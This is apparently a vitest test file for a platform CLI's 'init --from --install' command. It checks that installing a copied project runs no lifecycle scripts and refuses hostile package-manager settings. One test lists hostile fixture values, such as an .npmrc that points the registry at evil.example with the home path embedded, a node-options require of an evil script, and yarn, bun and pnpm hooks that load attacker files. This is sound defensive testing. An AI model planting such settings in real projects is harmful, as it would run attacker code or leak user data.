import { execFile, execFileSync } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, existsSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, test } from 'vitest';
import { temporaryFolder, writeFiles } from '../support/temporary-folder.js';

const platform = fileURLToPath(new URL('../../bin/platform.js', import.meta.url));

const harmless = {
  'from/acme-manifest.yaml':
    'name: weather\ntitle: Weather\ndescription: Shows the weather of a place.\norganization: acme\nvisibility: private\nscopes: []\nscript: ./index.js\n',
  'from/index.js':
    "import { createIntegration } from '@acme/runtime';\nexport default createIntegration({});\n",
  'sdk/package.json': '{ "name": "integration-platform", "version": "1.0.0" }',
};

interface Ended {
  code: number | null;
  output: string;
}

async function run(cwd: string, file: string, argv: string[], env: NodeJS.ProcessEnv): Promise<Ended> {
  const child = execFile(file, argv, {
    cwd,
    env: { ...process.env, NO_COLOR: '1', npm_config_audit: 'false', npm_config_fund: 'false', ...env },
  });
  let output = '';
  child.stdout?.on('data', (text: string) => (output += text));
  child.stderr?.on('data', (text: string) => (output += text));
  const [code] = (await once(child, 'close')) as [number | null];
  return { code, output };
}

/** A registry that has no packages and remembers what was asked for. */
async function emptyRegistry() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(404, { 'content-type': 'application/json' }).end('{}');
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  return {
    asked,
    env: { npm_config_registry: address },
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

const install = (folder: string, env: NodeJS.ProcessEnv): Promise<Ended> =>
  run(
    folder,
    process.execPath,
    [platform, 'init', 'mine', '--from', 'from', '--yes', '--install', '--sdk', `file:${folder}/sdk`],
    env,
  );

/** Each leaves a file behind if it runs. */
const scripts = [
  'preinstall',
  'install',
  'postinstall',
  'prepublish',
  'preprepare',
  'prepare',
  'postprepare',
];
const leave = (folder: string, name: string): string => `echo ran > ${folder}/ran-${name}`;

test('init --from --install runs no project script before the author has decided whether to run it', async () => {
  await using registry = await emptyRegistry();
  const folder = temporaryFolder();
  writeFiles(folder, {
    ...harmless,
    'from/package.json': JSON.stringify({
      scripts: {
        ...Object.fromEntries(scripts.map((name) => [name, leave(folder, name)])),
        typecheck: leave(folder, 'typecheck'),
      },
      dependencies: { inner: 'file:./inner' },
    }),
    'from/tsconfig.json': '{}',
    'from/inner/package.json': JSON.stringify({
      name: 'inner',
      version: '1.0.0',
      scripts: { postinstall: leave(folder, 'inner') },
    }),
  });
  const ran = (): string[] =>
    [...scripts, 'typecheck', 'inner'].filter((name) => existsSync(join(folder, `ran-${name}`)));
  const { code, output } = await install(folder, registry.env);
  expect([code, output]).toEqual([0, expect.stringContaining('--ignore-scripts')]);
  expect(existsSync(join(folder, 'mine/node_modules/inner'))).toBe(true);
  const listed = [...scripts, 'inner'].filter((name) =>
    output.replaceAll(/\s+/g, ' ').includes(`ran-${name}"`),
  );
  expect(listed).toHaveLength(8);
  expect(ran()).toEqual([]);
  const before = ran().length;

  // What an honest author does next.
  const later = [...output.matchAll(/^ {2}npm (rebuild|install)$/gm)].map(([, verb = '']) => verb);
  expect(later).toEqual(['rebuild', 'install']);
  for (const verb of later)
    expect((await run(join(folder, 'mine'), 'npm', [verb], registry.env)).code).toBe(0);
  expect(ran()).toEqual(expect.arrayContaining(['postinstall', 'prepare', 'inner']));
  console.log(
    `init --from --install: ${before} of 9 scripts ran, 8 of 8 listed; after the decisions, the printed commands ran ${ran().length}`,
  );
});

test('init --from --install runs no script of a packed package inside the project', async () => {
  await using registry = await emptyRegistry();
  const folder = temporaryFolder();
  writeFiles(folder, {
    'packed/package/package.json': JSON.stringify({
      name: 'inner',
      version: '1.0.0',
      scripts: { postinstall: leave(folder, 'packed') },
    }),
  });
  /** In the folder and next to it, from package.json and from the lock file. */
  const places = ['file:inner.tgz', './a/../inner.TGZ', 'file:a/../../inner.tgz', '^1.0.0'];
  const ran: string[] = [];
  for (const [index, place] of places.entries()) {
    const here = join(folder, String(index));
    const file = join(
      here,
      place.includes('../../')
        ? 'inner.tgz'
        : join('from', place.includes('TGZ') ? 'inner.TGZ' : 'inner.tgz'),
    );
    const lock = {
      lockfileVersion: 3,
      packages: {
        '': { dependencies: { inner: '^1.0.0' } },
        'node_modules/inner': { version: '1.0.0', resolved: 'file:inner.tgz', hasInstallScript: true },
      },
    };
    writeFiles(here, {
      ...harmless,
      'from/package.json': JSON.stringify({ dependencies: { inner: place } }),
      ...(place.startsWith('^') && { 'from/package-lock.json': JSON.stringify(lock) }),
    });
    execFileSync('tar', ['czf', file, '-C', join(folder, 'packed'), 'package']);
    const { code, output } = await install(here, registry.env);
    expect([place, code, output]).toEqual([place, 0, expect.stringContaining('--ignore-scripts')]);
    if (existsSync(join(folder, 'ran-packed'))) ran.push(place);
    rmSync(join(folder, 'ran-packed'), { force: true });
  }
  console.log(`init --from --install of packed packages: ${ran.length} of ${places.length} ran a script`);
  expect(ran).toEqual([]);
}, 60_000);

test('init --from --install rejects settings that start programs', async () => {
  await using registry = await emptyRegistry();
  const settings: Record<string, string>[] = [
    { '.npmrc': 'git=./evil.sh' },
    { '.npmrc': 'registry=https://evil.example/${HOME}' },
    { '.npmrc': 'node-options=--require=./evil.cjs' },
    { 'package.json': '{ "packageManager": "pnpm@https://evil.example/pnpm.tgz" }' },
    { '.pnpmfile.cjs': 'process.exit(1)', 'pnpm-lock.yaml': '' },
    { '.yarnrc.yml': 'yarnPath: ./evil.cjs', 'yarn.lock': '' },
    { 'bunfig.toml': 'preload = ["./evil.ts"]', 'bun.lock': '' },
    { 'package.json': '{ // unreadable\n "scripts": { "prepare": "./evil.sh" } }' },
  ];
  let installed = 0;
  for (const files of settings) {
    const folder = temporaryFolder();
    writeFiles(folder, harmless);
    writeFiles(join(folder, 'from'), files);
    // Stands for every package manager, because not all of them are on every machine.
    for (const name of ['npm', 'pnpm', 'yarn', 'bun', 'npx']) {
      writeFiles(folder, { [`bin/${name}`]: `#!/bin/sh\necho $0 $@ >> ${folder}/started\n` });
      chmodSync(join(folder, 'bin', name), 0o755);
    }
    const { code, output } = await install(folder, { ...registry.env, PATH: `${folder}/bin:/usr/bin:/bin` });
    expect([files, code, output]).toEqual([files, 0, expect.stringContaining('Nothing was installed')]);
    if (existsSync(join(folder, 'started'))) installed += 1;
  }
  expect(installed).toBe(0);
  console.log(
    `init --from --install with hostile settings: ${settings.length - installed} of ${settings.length} not installed`,
  );
});

test('init --from --install neither requests a package called tsc nor copies saved state', async () => {
  await using registry = await emptyRegistry();
  const folder = temporaryFolder();
  writeFiles(folder, {
    ...harmless,
    'from/tsconfig.json': '{}',
    'from/.platform/state.json': '{ "webhooks": "planted" }',
    'from/.PLATFORM/state.json': '{ "webhooks": "planted" }',
  });
  const { code, output } = await install(folder, registry.env);
  expect([code, output]).toEqual([0, expect.stringContaining("TypeScript isn't installed")]);
  expect(registry.asked.filter((path) => path.startsWith('/tsc'))).toEqual([]);
  expect(existsSync(join(folder, 'mine/.platform'))).toBe(false);
  expect(existsSync(join(folder, 'mine/.PLATFORM'))).toBe(false);
  // npm looks the name up before it says no, but downloads and runs nothing.
  expect(output).toMatch(/^ {2}npx --no-install tsc --noEmit$/m);
  const printed = await run(join(folder, 'mine'), 'npx', ['--no-install', 'tsc', '--noEmit'], registry.env);
  expect(printed.code).not.toBe(0);
  expect(registry.asked.filter((path) => path.endsWith('.tgz'))).toEqual([]);
  console.log('init --from --install without TypeScript: 0 requests for tsc, 0 of 2 planted sessions copied');
});
